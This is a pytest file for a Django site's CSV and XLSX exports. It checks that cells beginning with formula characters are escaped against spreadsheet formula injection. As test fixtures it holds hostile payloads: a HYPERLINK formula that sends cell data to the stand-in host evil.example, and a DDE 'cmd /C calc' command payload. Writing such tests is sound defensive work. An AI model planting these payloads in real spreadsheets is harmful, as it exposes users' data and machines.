"""No file the site or its commands write opens with a live formula (OWASP's CSV injection): the
public CSVs, and the export command's CSV and XLSX. A text is escaped only when it must be, and
the escape is undone exactly (the full round trip is in test_export_roundtrip)."""

import csv
import datetime as dt
import io

import pytest
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from councils.models import Council
from decisions.api.renderers import COLUMNS, StatisticsCSVRenderer, csv_stream
from ombudsman.spreadsheet import escape, unescape, xlsx_row, xlsx_text

from .factories import DecisionFactory, RecommendationFactory

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    "text, written",
    [
        (FORMULA, "'" + FORMULA),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("=", "'="),
        ("'=x", "''=x"),
        ("''-", "'''-"),
        # Nothing to escape: ordinary text, a quote not before a formula, a formula character
        # later in the text or after a space, the empty cell.
        ("The council apologised.", "The council apologised."),
        ("'tis", "'tis"),
        ("'", "'"),
        ("a=b", "a=b"),
        (" =x", " =x"),
        ("\n=x", "\n=x"),
        ("", ""),
    ],
)
def test_a_text_is_escaped_only_when_it_must_be(text, written):
    assert escape(text) == written
    assert unescape(written) == text


def test_a_hand_typed_quote_is_read_as_typed():
    assert [unescape(t) for t in ("'tis", "'", "''", "'x=1")] == ["'tis", "'", "''", "'x=1"]


@given(st.text())
def test_the_escape_is_safe_and_undone_exactly(text):
    written = escape(text)
    assert not written.startswith(STARTS)
    assert unescape(written) == text


@given(st.text())
def test_an_xlsx_cell_reads_back_as_the_escaped_text(text):
    sheet = Workbook(write_only=True).create_sheet()
    (cell,) = xlsx_row(sheet, [text])
    value = getattr(cell, "value", cell)
    assert "\r" not in (value or "")
    assert xlsx_text(value or "") == escape(text)


def test_an_xlsx_holds_every_text_as_a_string(tmp_path):
    texts = [FORMULA, "#N/A", "#DIV/0!", "=", "-1", "plain"]
    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    sheet.append(xlsx_row(sheet, [*texts, -1.5, 3]))
    book.save(tmp_path / "x.xlsx")
    (row,) = load_workbook(tmp_path / "x.xlsx")["x"].iter_rows()
    assert [c.data_type for c in row] == ["s"] * len(texts) + ["n", "n"]
    assert [c.value for c in row] == [*map(escape, texts), -1.5, 3]


def _no_live_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            assert not value.startswith(STARTS), value


@pytest.fixture
def hostile(world):
    decision = DecisionFactory(
        reference="22 900 001",
        council=world["felpersham"],
        decision_date=dt.date(2022, 8, 1),
        category="@Housing",
        summary=FORMULA,
    )
    RecommendationFactory(decision=decision, description="+cmd|' /C calc'!A0")
    return world


def _streamed(api, url: str) -> list[list[str]]:
    response = api.get(url)
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.django_db
# The whole list is a file written once; a filtered one is streamed.
@pytest.mark.parametrize("query", ["", "council=E07900001&"])
def test_the_public_decision_and_recommendation_csvs_carry_no_formula(hostile, api, query):
    decisions = _streamed(api, f"/api/decisions/?{query}format=csv")
    _no_live_formula(decisions)
    row = next(r for r in decisions if r[0] == "22 900 001")
    assert row[decisions[0].index("summary")] == "'" + FORMULA
    assert row[decisions[0].index("category")] == "'@Housing"
    recommendations = _streamed(api, f"/api/recommendations/?{query}format=csv")
    _no_live_formula(recommendations)
    assert ["22 900 001", "'+cmd|' /C calc'!A0"] in [r[:1] + r[2:3] for r in recommendations]


@pytest.mark.django_db
@pytest.mark.parametrize(
    "url", ["/api/statistics/?year=2022-23", "/api/councils/E07900001/statistics/"]
)
def test_the_statistics_csvs_carry_no_formula(world, api, url):
    Council.objects.filter(pk=world["felpersham"].pk).update(short_name="=1+1", region="-West")
    response = api.get(url + ("&" if "?" in url else "?") + "format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    _no_live_formula(rows)
    named = [r for r in rows if r[COLUMNS.index("gss_code")] == "E07900001"]
    assert named and all(r[COLUMNS.index("name")] == "'=1+1" for r in named)
    assert all(r[COLUMNS.index("region")] == "'-West" for r in named)


def test_statistics_numbers_stay_numbers():
    row = {
        "year": "2022-23",
        "name": "-Loxley",
        "investigations": -3,
        "upheld_rate": -1.5,
        "outcomes": {},
        "small_numbers": [],
    }
    body = StatisticsCSVRenderer().render({"results": [row]}).decode()
    cells = dict(zip(COLUMNS, list(csv.reader(io.StringIO(body)))[1], strict=True))
    assert (cells["investigations"], cells["upheld_rate"]) == ("-3", "-1.5")
    assert cells["name"] == "'-Loxley"


def test_a_carriage_return_in_a_streamed_cell_keeps_the_row_whole():
    body = "".join(csv_stream(["a", "b"], [["x\ry", 1], ["\rz", "w"]]))
    assert list(csv.reader(io.StringIO(body, newline=""))) == [
        ["a", "b"],
        ["x\ry", "1"],
        ["'\rz", "w"],
    ]


@pytest.mark.django_db
def test_the_export_command_writes_no_formula(hostile, tmp_path):
    call_command("export_decisions", str(tmp_path / "out.xlsx"), stdout=io.StringIO())
    book = load_workbook(tmp_path / "out.xlsx")  # formulas kept as formulas, not their values
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(c.data_type != "f" for c in row)
            _no_live_formula([[c.value for c in row if isinstance(c.value, str)]])
    summaries = [r[9] for r in book["decisions"].iter_rows(values_only=True)]
    assert "'" + FORMULA in summaries
    assert "The council delayed a housing decision; it agreed to apologise." in summaries

    decisions, recommendations = tmp_path / "d.csv", tmp_path / "r.csv"
    call_command(
        "export_decisions",
        str(decisions),
        recommendations=str(recommendations),
        stdout=io.StringIO(),
    )
    written = {}
    for path in (decisions, recommendations):
        with path.open(newline="", encoding="utf-8") as handle:
            written[path] = list(csv.reader(handle))
        _no_live_formula(written[path])
    assert ["22 900 001", "'" + FORMULA] in [[r[0], r[9]] for r in written[decisions]]
